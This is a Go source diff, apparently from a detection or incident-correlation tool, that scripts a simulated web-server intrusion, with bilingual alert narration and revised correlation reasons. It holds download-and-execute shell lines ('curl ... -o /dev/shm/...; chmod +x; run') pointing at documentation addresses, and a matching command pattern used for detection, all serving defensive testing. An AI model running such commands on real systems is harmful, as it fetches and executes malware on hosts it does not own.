@@ -26,8 +26,19 @@ const (
 	secondCommand = "curl http://198.51.100.77/d -o /dev/shm/databus00000000017; chmod +x /dev/shm/databus00000000017; /dev/shm/databus00000000017"
 )
 
-func sameLineage() incident.Reason {
-	return incident.Reason{Reason: "same_lineage", Entity: "web_shell", Weight: 1}
+// sameLineage : the process runs in the context that the shell began.
+func sameLineage(shell *event.Process) incident.Reason {
+	return incident.Reason{Reason: incident.ReasonLineage, Entity: shell.Context.ID, Weight: 1}
+}
+
+// sameFile : one process wrote the file that the other runs.
+func sameFile(path string) incident.Reason {
+	return incident.Reason{Reason: incident.ReasonFileFlow, Entity: WebHost + ":" + path, Weight: 1}
+}
+
+// file is a file of the web host that the intruder brought.
+func file(path, role string) alert.Entity {
+	return alert.Entity{Type: alert.EntityFile, Value: WebHost + ":" + path, Role: role}
 }
 
 // firstRound : download, execution, disguise, beacon.
@@ -39,21 +50,21 @@ func (n *narrator) firstRound() {
 
 	curl := n.actor(key(WebHost, 31009, 7200), 40*time.Millisecond, "/usr/bin/curl", "curl http://203.0.113.9/t -o /dev/shm/kworker", shell)
 	e := connectTo(n.observed(event.NetworkConnect, 60*time.Millisecond, curl), "203.0.113.9", 80)
-	n.tell(raise("a-0002", e, downloaded, alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Port: 80, Role: "destination"}, alert.Entity{Type: alert.EntityFile, Value: WebHost + ":/dev/shm/kworker"}),
-		sameLineage(), "The web service java (shop-api) on web-1 ran a shell, which fetched /dev/shm/kworker from 203.0.113.9.", "web-1 上的 Web 服务启动 shell,从 203.0.113.9 下载 /dev/shm/kworker。")
+	n.tell(raise("a-0002", e, downloaded, alert.Entity{Type: alert.EntityIP, Value: "203.0.113.9", Port: 80, Role: "destination"}, file("/dev/shm/kworker", incident.RoleWritten)),
+		sameLineage(shell), "The shell fetched /dev/shm/kworker from 203.0.113.9.", "该 shell 从 203.0.113.9 下载 /dev/shm/kworker。")
 
 	trojan := n.trojan(31015, 800*time.Millisecond, "/dev/shm/kworker", shell)
-	n.tell(raise("a-0003", n.observed(event.ProcessExec, 820*time.Millisecond, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}),
-		sameLineage(), "It then executed /dev/shm/kworker from shared memory.", "随后从共享内存执行 /dev/shm/kworker。")
+	n.tell(raise("a-0003", n.observed(event.ProcessExec, 820*time.Millisecond, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}, file("/dev/shm/kworker", incident.RoleImage)),
+		sameFile("/dev/shm/kworker"), "It then executed /dev/shm/kworker from shared memory.", "随后从共享内存执行 /dev/shm/kworker。")
 
 	masked := *trojan
 	masked.OldCommandLine, masked.CommandLine = trojan.CommandLine, "[kworker/14:1]"
 	n.tell(raise("a-0004", n.observed(event.ProcessRename, 900*time.Millisecond, &masked), disguised),
-		sameLineage(), "The trojan retitled itself [kworker/14:1], though no kernel thread.", "木马将自身改名为 [kworker/14:1],但并非内核线程。")
+		sameLineage(shell), "The trojan retitled itself [kworker/14:1], though no kernel thread.", "木马将自身改名为 [kworker/14:1],但并非内核线程。")
 
 	beacon := raise("a-0005", connectTo(n.observed(event.NetworkConnect, 1500*time.Millisecond, &masked), "203.0.113.40", 443), calledOut,
 		alert.Entity{Type: alert.EntityIP, Value: "203.0.113.40", Port: 443, Role: "destination"})
-	n.tell(beacon, sameLineage(), "It connects to 203.0.113.40:443.", "并连接 203.0.113.40:443。")
+	n.tell(beacon, sameLineage(shell), "It connects to 203.0.113.40:443.", "并连接 203.0.113.40:443。")
 	beacon.Revision, beacon.Count, beacon.Last = 2, 17, n.start.Add(90*time.Second)
 	beacon.Incident = Intrusion
 	n.steps = append(n.steps, Step{Alerts: []alert.Alert{beacon}})
@@ -88,15 +99,18 @@ func (n *narrator) otherHost() {
 
 // secondRound : another name, hash and address, the same way in.
 func (n *narrator) secondRound() {
-	again := incident.Reason{Reason: "same_service", Entity: n.service().Context.ID, Weight: 0.8}
+	again := incident.Reason{
+		Reason: incident.ReasonService + "+" + incident.ReasonCommand,
+		Entity: n.service().Context.ID + "; curl {url} -o /dev/shm/{name}; chmod +x /dev/shm/{name}; /dev/shm/{name}", Weight: 0.86,
+	}
 	shell := n.shell(40221, 10*time.Minute, secondCommand)
 	n.tell(raise("a-0007", n.observed(event.ProcessExec, 10*time.Minute, shell), spawned, alert.Entity{Type: alert.EntityCommand, Value: shell.CommandLine}),
 		again, "Ten minutes later the same service ran a shell again.", "十分钟后,同一服务再次启动 shell。")
 	trojan := n.trojan(40230, 10*time.Minute+time.Second, "/dev/shm/databus00000000017", shell)
 	trojan.Hash.SHA256 = "6b86b273ff34fce19d6b804eff5a3f5747ada4eaa22f1d49c01e52ddb7875b4b"
-	n.tell(raise("a-0008", n.observed(event.ProcessExec, 10*time.Minute+time.Second, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}),
-		again, "It executed /dev/shm/databus00000000017 from shared memory.", "从共享内存执行 /dev/shm/databus00000000017。")
+	n.tell(raise("a-0008", n.observed(event.ProcessExec, 10*time.Minute+time.Second, trojan), executed, alert.Entity{Type: alert.EntityHash, Value: "sha256:" + trojan.Hash.SHA256}, file("/dev/shm/databus00000000017", incident.RoleImage)),
+		sameLineage(shell), "It executed /dev/shm/databus00000000017 from shared memory.", "从共享内存执行 /dev/shm/databus00000000017。")
 	e := connectTo(n.observed(event.NetworkConnect, 10*time.Minute+2*time.Second, trojan), "198.51.100.77", 8443)
 	n.tell(raise("a-0009", e, calledOut, alert.Entity{Type: alert.EntityIP, Value: "198.51.100.77", Port: 8443, Role: "destination"}),
-		again, "The second trojan connects to 198.51.100.77:8443: name, hash and address changed, the way in did not.", "第二个木马连接 198.51.100.77:8443:名称、哈希与地址均已更换,入口未变。")
+		sameLineage(shell), "The second trojan connects to 198.51.100.77:8443: name, hash and address changed, the way in did not.", "第二个木马连接 198.51.100.77:8443:名称、哈希与地址均已更换,入口未变。")
 }
